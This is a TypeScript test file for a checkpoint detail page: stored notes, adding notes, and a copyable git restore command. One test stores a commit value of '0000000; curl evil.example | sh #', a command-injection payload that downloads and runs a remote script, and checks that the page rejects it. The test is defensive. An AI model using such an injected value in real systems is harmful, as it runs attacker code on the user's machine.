import { afterEach, describe, expect, it, vi } from "vitest";
import { cleanup, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { MemoryRouter, Route, Routes } from "react-router-dom";
import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import CheckpointDetail from "./CheckpointDetail";
import { notesOf, type Checkpoint, type Note, type NoteBody } from "../api";
import { checkpointOf } from "../testing/wire";
import { restoreCommand } from "../lib/gitstate";

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

const stored: Note = { id: "n1", checkpoint_id: "c1", author: "founder", text: "Train chosen for cost", kind: "milestone", created_at: "2026-01-01T10:00:00+00:00" };

function checkpoint(notes: Note[]): Checkpoint {
  return checkpointOf({
    id: "c1",
    commit_hash: "abcdef1234567890",
    message: "Go by train",
    summary: "",
    objective: "",
    decisions: [],
    assumptions: [],
    tasks: [],
    open_questions: [],
    entities: [],
    artifacts: [],
    metadata: notes.length ? { session_id: "s1", notes } : { session_id: "s1" },
    created_at: "2026-01-01T09:00:00Z",
  });
}

/** Keeps the checkpoint's notes the way the server does (appended under metadata.notes). */
function fakeServer() {
  const notes: Note[] = [stored];
  const posted: unknown[] = [];
  const json = (data: unknown, status = 200) => new Response(JSON.stringify(data), { status, headers: { "Content-Type": "application/json" } });
  const fetchFn = async (input: RequestInfo | URL, init?: RequestInit) => {
    const path = String(input);
    if (path === "/api/v2/commits/c1") return json(checkpoint(notes));
    if (path === "/api/v5/checkpoints/c1/verify") return json({ checkpoint_id: "c1", ok: true, checked: 1, first_mismatch: null });
    if (path === "/api/v2/context/from-commit") return json({ content: "pack", target_tool: "generic", format: "markdown" });
    if (path === "/api/v5/checkpoint/c1/notes" && init?.method === "POST") {
      const body = JSON.parse(String(init.body)) as NoteBody;
      posted.push(body);
      const n: Note = { id: "n2", checkpoint_id: "c1", author: body.author ?? "", text: body.text ?? "", kind: body.kind ?? "", created_at: "2026-01-02T10:00:00+00:00" };
      notes.push(n);
      return json(n, 201);
    }
    return json({ detail: "no route" }, 404);
  };
  return { posted, fetchFn };
}

describe("CheckpointDetail notes", () => {
  it("lists the checkpoint's stored notes and appends a new one", async () => {
    const srv = fakeServer();
    vi.stubGlobal("fetch", vi.fn(srv.fetchFn));
    const qc = new QueryClient({ defaultOptions: { queries: { retry: false } } });
    render(
      <QueryClientProvider client={qc}>
        <MemoryRouter initialEntries={["/checkpoints/c1"]}>
          <Routes>
            <Route path="/checkpoints/:id" element={<CheckpointDetail />} />
          </Routes>
        </MemoryRouter>
      </QueryClientProvider>,
    );
    const first = await screen.findByTestId("note");
    expect(within(first).getByText("milestone")).toBeTruthy();
    expect(first.textContent).toContain("Train chosen for cost");
    expect(first.textContent).toContain("founder");
    expect(first.querySelector("time")?.getAttribute("datetime")).toBe("2026-01-01T10:00:00+00:00");

    await userEvent.type(screen.getByLabelText("Add a note"), "Check the bus too");
    await userEvent.selectOptions(screen.getByLabelText("Kind"), "noise");
    await userEvent.click(screen.getByRole("button", { name: "Add note" }));
    await waitFor(() => expect(screen.getAllByTestId("note")).toHaveLength(2));
    expect(srv.posted).toEqual([{ text: "Check the bus too", kind: "noise", author: "web" }]);
    const second = screen.getAllByTestId("note")[1];
    expect(within(second).getByText("noise")).toBeTruthy();
    expect(second.textContent).toContain("Check the bus too");
    expect((screen.getByLabelText("Add a note") as HTMLTextAreaElement).value).toBe("");
  });
});

describe("notesOf", () => {
  it("reads metadata.notes, defaulting a missing kind to note and skipping malformed entries", () => {
    const c = { id: "c9", metadata: { notes: [{ id: "a", text: "kept", author: "x", created_at: "2026-01-01T00:00:00+00:00" }, 7, { id: "b" }] } };
    expect(notesOf(c)).toEqual([{ id: "a", checkpoint_id: "c9", author: "x", text: "kept", kind: "note", created_at: "2026-01-01T00:00:00+00:00" }]);
    expect(notesOf({ id: "c9", metadata: {} })).toEqual([]);
  });
});

const COMMIT = "0123456789abcdef0123456789abcdef01234567";
const DIFF = "9".repeat(64);

function renderDetail(c: Checkpoint) {
  const json = (data: unknown) => new Response(JSON.stringify(data), { status: 200, headers: { "Content-Type": "application/json" } });
  vi.stubGlobal(
    "fetch",
    vi.fn(async (input: RequestInfo | URL) => {
      const path = String(input);
      if (path === "/api/v2/commits/c1") return json(c);
      if (path === "/api/v5/checkpoints/c1/verify") return json({ checkpoint_id: "c1", ok: true, checked: 1, first_mismatch: null });
      if (path === "/api/v2/context/from-commit") return json({ content: "pack", target_tool: "generic", format: "markdown" });
      return new Response(JSON.stringify({ detail: "no route" }), { status: 404 });
    }),
  );
  const qc = new QueryClient({ defaultOptions: { queries: { retry: false } } });
  render(
    <QueryClientProvider client={qc}>
      <MemoryRouter initialEntries={["/checkpoints/c1"]}>
        <Routes>
          <Route path="/checkpoints/:id" element={<CheckpointDetail />} />
        </Routes>
      </MemoryRouter>
    </QueryClientProvider>,
  );
}

describe("CheckpointDetail code", () => {
  it("shows the git state the checkpoint recorded and copies the restore command", async () => {
    const writeText = vi.fn<(t: string) => Promise<void>>().mockResolvedValue(undefined);
    // After setup, which puts a clipboard stub of its own on navigator.
    const user = userEvent.setup();
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    renderDetail({ ...checkpoint([]), metadata: { git: { commit: COMMIT, branch: "main", dirty: true, diff_sha256: DIFF } } });
    const code = await screen.findByTestId("checkpoint-code");
    expect(within(code).getByTestId("git-commit").textContent).toBe("0123456789ab");
    expect(within(code).getByTestId("git-commit").getAttribute("title")).toBe(COMMIT);
    expect(within(code).getByText("main")).toBeTruthy();
    expect(within(code).getByText("dirty")).toBeTruthy();
    const want =
      "git stash push -u -m smriti-restore && git switch -- 'main' && git reset --keep '" +
      COMMIT +
      "' --   # the checkpoint saw uncommitted changes (diff 999999999999) that git cannot bring back";
    const field = within(code).getByLabelText(/To get the code there/) as HTMLInputElement;
    expect(field.value).toBe(want);
    expect(field.readOnly).toBe(true);
    await user.click(within(code).getByRole("button", { name: "Copy" }));
    expect(writeText).toHaveBeenCalledWith(want);
    expect(within(code).getByTestId("restore-status").textContent).toBe("Copied");
  });

  it("shows a detached, clean state without the dirty note", async () => {
    renderDetail({ ...checkpoint([]), metadata: { git: { commit: COMMIT, branch: "", dirty: false, diff_sha256: "" } } });
    const code = await screen.findByTestId("checkpoint-code");
    expect(within(code).getByText("detached")).toBeTruthy();
    expect(within(code).getByText("clean")).toBeTruthy();
    expect((within(code).getByLabelText(/To get the code there/) as HTMLInputElement).value).toBe(
      "git stash push -u -m smriti-restore && git switch --detach -- '" + COMMIT + "'",
    );
  });

  it("shows a stored git state that git never writes as invalid, with no command to copy", async () => {
    renderDetail({ ...checkpoint([]), metadata: { git: { commit: "0000000; curl evil.example | sh #", branch: "main", dirty: false, diff_sha256: "" } } });
    const code = await screen.findByTestId("checkpoint-code");
    expect(within(code).getByTestId("git-invalid").textContent).toContain("invalid git state");
    expect(within(code).queryByRole("button", { name: "Copy" })).toBeNull();
    expect(code.textContent).not.toContain("curl");
  });

  it("has no code section when the checkpoint recorded no git state", async () => {
    renderDetail({ ...checkpoint([]), metadata: {} });
    await screen.findByText("Go by train");
    expect(screen.queryByTestId("checkpoint-code")).toBeNull();
  });
});

describe("restoreCommand", () => {
  it("switches to the branch and resets it to the commit, as smriti restore prints", () => {
    expect(restoreCommand({ commit: COMMIT, branch: "feat/x", dirty: false, diff_sha256: "" })).toBe(
      "git stash push -u -m smriti-restore && git switch -- 'feat/x' && git reset --keep '" + COMMIT + "' --",
    );
  });
});
